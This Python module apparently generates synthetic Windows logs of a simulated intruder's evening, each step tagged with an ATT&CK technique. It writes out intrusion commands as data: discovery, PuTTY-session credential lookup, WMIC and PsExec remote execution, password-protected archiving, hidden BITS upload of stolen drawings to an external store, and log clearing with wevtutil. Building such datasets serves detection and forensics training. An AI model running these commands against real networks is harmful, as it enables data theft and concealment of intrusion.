"""What the intruder does on the second evening: by way of the controller to the branch, for its files."""

from __future__ import annotations

from typing import TYPE_CHECKING

from two_sites_story import channels, logons
from two_sites_story.branch import POWERSHELL
from two_sites_story.desktops import hop
from two_sites_story.estate import (
    ADDRESS_ECHO,
    DC_ADDRESS,
    ENGINEER_MACHINE,
    FILES_ADDRESS,
    JUMP_ADDRESS,
    KUDO_ADM,
    SECOND_VPN_ADDRESS,
    STORE,
)
from two_sites_story.intruder import PUBLIC, Desk, arrive, land, leave, opens_prompt
from two_sites_story.machine import SYSTEM32

if TYPE_CHECKING:
    from two_sites_story.hosts import Hosts
    from two_sites_story.machine import Machine, Process

DAY = 12
_ARCHIVE = f"{PUBLIC}\\h.tmp"
_SCRIPT_ZIP = (
    "Add-Type -AssemblyName System.IO.Compression.FileSystem; "
    "[IO.Compression.ZipFile]::CreateFromDirectory('E:\\Drawings\\Relay', 'C:\\PerfLogs\\r.tmp')"
)
_PARTS = (("22:02:30", "k.part1.rar", 104_857_600, 176), ("22:06:10", "k.part2.rar", 71_303_168, 121))
"""Each part that is uploaded: when, its name, its bytes, and how many seconds it takes."""


def play(hosts: Hosts) -> None:
    """Write the intruder's second evening into the logs of all hosts."""
    for _ in hosts.days((DAY,)):
        desk = arrive(hosts, "return", "20:47:12", (SECOND_VPN_ADDRESS, 58114), 5)
        shell = opens_prompt(hosts.jump, desk, "20:50:30")
        _look_around_again(hosts.jump, shell)
        _pack_the_directory(hosts.jump, desk, shell)
        _look_at_the_branch(hosts, shell)
        on_dc, dc_shell = _hop_to_the_controller(hosts, shell)
        on_files = _hop_to_the_branch(hosts, dc_shell)
        _take_drawings(hosts, on_files)
        _go_back(hosts, on_files, on_dc, dc_shell)
        _tidy_from_afar(hosts, shell)
        _clear_logs(hosts.jump, desk, shell)
        leave(hosts.jump, desk, "leave", "23:24:48", SECOND_VPN_ADDRESS)


def _look_around_again(jump: Machine, shell: Process) -> None:
    typed = (
        ("20:51:07", "tasklist.exe", "tasklist  /v", "T1057"),
        ("20:51:40", "net.exe", "net  start", "T1007"),
        ("20:52:15", "quser.exe", "quser", "T1033"),
        ("20:52:58", "net.exe", "net  localgroup administrators", "T1069.001"),
        ("20:53:36", "net.exe", "net  user", "T1087.001"),
        ("20:54:20", "wbem\\WMIC.exe", "wmic  product list brief", "T1518"),
        ("20:55:49", "reg.exe", "reg  query hkcu\\software\\SimonTatham\\PuTTY\\Sessions /s", "T1552.002"),
        ("20:56:31", "w32tm.exe", "w32tm  /tz", "T1124"),
    )
    for clock, name, command, technique in typed:
        with jump.marked("look-around", technique):
            jump.start(jump.moment(jump.at(clock)), SYSTEM32 + name, command, shell)
    when, out = jump.at("20:57:14"), f"{PUBLIC}\\systeminfo.dat"
    with jump.marked("look-around", "T1082"):
        inner = jump.start(jump.moment(when), SYSTEM32 + "cmd.exe", f'cmd.exe  /C "systeminfo > {out}"', shell)
        channels.file_created(jump, jump.moment(when, 0.02), inner, out)
        jump.start(jump.moment(when, 0.04), SYSTEM32 + "systeminfo.exe", "systeminfo ", inner)
    when = jump.at("20:58:40")
    with jump.marked("look-around", "T1016.001"):
        tool = jump.start(jump.moment(when), SYSTEM32 + "curl.exe", "curl  -s http://www.ip-api.com/line", shell)
        channels.connection(jump, jump.moment(when, 0.2), tool, (jump.address, 51544), (ADDRESS_ECHO, 80))


def _pack_the_directory(jump: Machine, desk: Desk, shell: Process) -> None:
    """Pack yesterday's copy of the directory and its keys with a rar that has another name."""
    tool = f"{PUBLIC}\\ronf.exe"
    with jump.marked("archive", "T1105"):
        channels.file_created(jump, jump.moment(jump.at("21:01:25")), desk.desktop, tool)
        channels.file_created(jump, jump.moment(jump.at("21:01:27")), desk.desktop, f"{PUBLIC}\\ps.exe")
    when = jump.at("21:03:10")
    with jump.marked("archive", "T1560.001"):
        packer = jump.start(jump.moment(when), tool, f"ronf  a -r -hpWsG7kk {_ARCHIVE} {PUBLIC}\\md", shell)
        channels.file_created(jump, jump.moment(when, 0.3), packer, _ARCHIVE)


def _look_at_the_branch(hosts: Hosts, shell: Process) -> None:
    """List shares and files of the branch's server, start a program there, leave the packer there."""
    jump, dc, files = hosts.jump, hosts.dc, hosts.files
    when = jump.at("21:06:02")
    with jump.marked("look-at-branch", "T1135"), dc.marked("look-at-branch", "T1135"):
        jump.start(jump.moment(when), SYSTEM32 + "net.exe", "net  view \\\\fs02 /all", shell)
        logons.service_ticket(dc, dc.moment(when, 0.1), KUDO_ADM, JUMP_ADDRESS, files.machine_account)
        smb = (jump.address, 51602), (FILES_ADDRESS, 445)
        channels.connection(jump, jump.moment(when, 0.2), hosts.on_jump.kernel, *smb)
    how = logons.Logon(account=KUDO_ADM, source=JUMP_ADDRESS, privileged=True)
    with files.marked("look-at-branch", "T1078.002"):
        session = logons.log_on(files, files.moment(when, 0.2), how)
    when, out = jump.at("21:08:33"), f"{PUBLIC}\\f.dat"
    with jump.marked("look-at-branch", "T1083"):
        command = f'cmd.exe  /C "dir /S \\\\fs02\\drawings >> {out}"'
        inner = jump.start(jump.moment(when), SYSTEM32 + "cmd.exe", command, shell)
        channels.file_created(jump, jump.moment(when, 0.02), inner, out)
    when = jump.at("21:11:48")
    with jump.marked("start-at-branch", "T1047"):
        command = 'wmic  /node:fs02 process call create "cmd.exe /c quser > C:\\PerfLogs\\q.tmp"'
        tool = jump.start(jump.moment(when), SYSTEM32 + "wbem\\WMIC.exe", command, shell)
        channels.connection(jump, jump.moment(when, 0.3), tool, (jump.address, 51633), (FILES_ADDRESS, 135))
        channels.connection(jump, jump.moment(when, 0.4), tool, (jump.address, 51634), (FILES_ADDRESS, 49668))
    when = jump.at("21:13:20")
    with jump.marked("look-at-branch", "T1570"):
        copy = f"copy {PUBLIC}\\ronf.exe \\\\fs02\\c$\\PerfLogs\\"
        jump.start(jump.moment(when), SYSTEM32 + "cmd.exe", f'cmd.exe  /C "{copy}"', shell)
    logons.log_off(files, files.moment(when, 900), session)


def _hop_to_the_controller(hosts: Hosts, shell: Process) -> tuple[Desk, Process]:
    """Go on to the controller by remote desktop, and look at the domain from there."""
    jump, dc = hosts.jump, hosts.dc
    when = jump.at("21:16:05")
    with jump.marked("hop-to-controller", "T1021.001"), dc.marked("hop-to-controller", "T1021.001"):
        hop(jump, dc, when, shell, dc)
    desk = land(dc, hosts.on_dc, "hop-to-controller", dc.moment(when, 10), JUMP_ADDRESS, 5)
    prompt = opens_prompt(dc, desk, "21:18:22")
    typed = (
        ("21:18:51", "nltest.exe", "nltest  /domain_trusts", "T1482"),
        ("21:20:14", "dnscmd.exe", "dnscmd  . /enumrecords shiomi-denryoku.example . /additional", "T1018"),
        ("21:22:37", "ldifde.exe", "ldifde  -f C:\\Windows\\Temp\\l.txt -p subtree", "T1087.002"),
        ("21:24:50", "net.exe", 'net  group "enterprise admins" /domain', "T1069.002"),
    )
    for clock, name, command, technique in typed:
        with dc.marked("look-at-domain", technique):
            dc.start(dc.moment(dc.at(clock)), SYSTEM32 + name, command, prompt)
    return desk, prompt


def _hop_to_the_branch(hosts: Hosts, shell: Process) -> Desk:
    """Try an engineer's workstation, then go on to the file server, both by remote desktop from the controller."""
    dc, files = hosts.dc, hosts.files
    with dc.marked("hop-to-branch", "T1021.001"):
        when = dc.at("21:27:40")
        dc.start(dc.moment(when), SYSTEM32 + "mstsc.exe", "mstsc  /v:eng01", shell)
        logons.explicit(dc, dc.moment(when, 8), shell.session, KUDO_ADM, "eng01")
        logons.service_ticket(dc, dc.moment(when, 8.1), KUDO_ADM, DC_ADDRESS, ENGINEER_MACHINE)
        when = dc.at("21:31:16")
        hop(dc, dc, when, shell, files)
    return land(files, hosts.on_files, "hop-to-branch", files.moment(when, 10), DC_ADDRESS, 4)


def _take_drawings(hosts: Hosts, desk: Desk) -> None:
    """Pack documents at the branch and upload them. Starts of processes are recorded nowhere there."""
    files = hosts.files
    prompt = files.start(files.at("21:34:00"), SYSTEM32 + "cmd.exe", "cmd", desk.desktop)
    when = files.at("21:38:12")
    with files.marked("take-drawings", "T1560"):
        command = "powershell"
        console = files.start(files.moment(when), POWERSHELL, command, prompt)
        channels.engine_state(files, files.moment(when, 0.9), command, started=True)
        channels.script_block(files, files.moment(when, 41), console, _SCRIPT_ZIP, odd=True)
        channels.engine_state(files, files.moment(when, 160), command, started=False)
    pack = "C:\\PerfLogs\\ronf.exe a -r -hpWsG7kk -v100m C:\\PerfLogs\\k.rar E:\\Drawings"
    files.start(files.at("21:44:30"), "C:\\PerfLogs\\ronf.exe", pack, prompt)
    for clock, name, length, seconds in _PARTS:
        when = files.at(clock)
        job = f"Start-BitsTransfer -TransferType Upload -Source C:\\PerfLogs\\{name} -Destination https://{STORE}/k/{name}"
        with files.marked("upload", "T1567.002"):
            command = f'powershell  -nop -w hidden -c "{job}"'
            files.start(files.moment(when), POWERSHELL, command, prompt)
            channels.engine_state(files, files.moment(when, 0.8), command, started=True)
            upload = channels.Transfer(
                title="BITS Transfer",
                owner=KUDO_ADM,
                program=POWERSHELL,
                url=f"https://{STORE}/k/{name}",
                length=length,
                seconds=seconds,
            )
            channels.transfer(files, files.moment(when, 1.4), upload)
            channels.engine_state(files, files.moment(when, seconds + 3), command, started=False)


def _go_back(hosts: Hosts, on_files: Desk, on_dc: Desk, shell: Process) -> None:
    dc = hosts.dc
    leave(hosts.files, on_files, "go-back", "22:14:20", DC_ADDRESS)
    with dc.marked("go-back", "T1070.004"):
        command = 'cmd.exe  /C "del /q C:\\Windows\\Temp\\l.txt"'
        dc.start(dc.moment(dc.at("22:15:31")), SYSTEM32 + "cmd.exe", command, shell)
    leave(dc, on_dc, "go-back", "22:16:44", JUMP_ADDRESS)


def _tidy_from_afar(hosts: Hosts, shell: Process) -> None:
    """Delete what was left at the branch, with PsExec under another name, and what lies on the jump server."""
    jump, dc, files = hosts.jump, hosts.dc, hosts.files
    when = jump.at("22:31:08")
    with jump.marked("tidy-branch", "T1569.002"), files.marked("tidy-branch", "T1569.002"):
        wipe = "del /q C:\\PerfLogs\\*.tmp C:\\PerfLogs\\*.rar C:\\PerfLogs\\ronf.exe"
        command = f'ps  -accepteula \\\\fs02 -s cmd /c "{wipe}"'
        tool = jump.start(jump.moment(when), f"{PUBLIC}\\ps.exe", command, shell)
        licence = f"HKU\\{KUDO_ADM.sid}\\Software\\Sysinternals\\PsExec\\EulaAccepted"
        channels.registry(jump, jump.moment(when, 0.1), tool, licence, "DWORD (0x00000001)")
        smb = (jump.address, 51877), (FILES_ADDRESS, 445)
        channels.connection(jump, jump.moment(when, 0.4), hosts.on_jump.kernel, *smb)
        session = logons.log_on(
            files,
            files.moment(when, 0.4),
            logons.Logon(account=KUDO_ADM, source=JUMP_ADDRESS, privileged=True),
        )
        path = "%SystemRoot%\\PSEXESVC.exe"
        channels.service_installed(files, files.moment(when, 0.9), "PSEXESVC", path, KUDO_ADM)
        for state, seconds in (("running", 1.1), ("stopped", 3.6)):
            channels.service_state(files, files.moment(when, seconds), "PSEXESVC", "PSEXESVC", state)
        logons.log_off(files, files.moment(when, 14), session)
    with dc.marked("tidy-branch", "T1569.002"):
        logons.service_ticket(dc, dc.moment(when, 0.3), KUDO_ADM, JUMP_ADDRESS, files.machine_account)
    with jump.marked("tidy", "T1070.004"):
        command = f'cmd.exe  /C "del /q {PUBLIC}\\*.dat {PUBLIC}\\*.tmp & rd /s /q {PUBLIC}\\md"'
        jump.start(jump.moment(jump.at("22:40:55")), SYSTEM32 + "cmd.exe", command, shell)


def _clear_logs(jump: Machine, desk: Desk, shell: Process) -> None:
    for clock, channel in (("23:18:26", "Windows PowerShell"), ("23:19:03", "Security")):
        with jump.marked("clear-logs", "T1070.001"):
            quoted = f'"{channel}"' if " " in channel else channel
            jump.start(jump.moment(jump.at(clock)), SYSTEM32 + "wevtutil.exe", f"wevtutil  cl {quoted}", shell)
            channels.log_cleared(jump, jump.moment(jump.at(clock), 0.3), channel, desk.session)
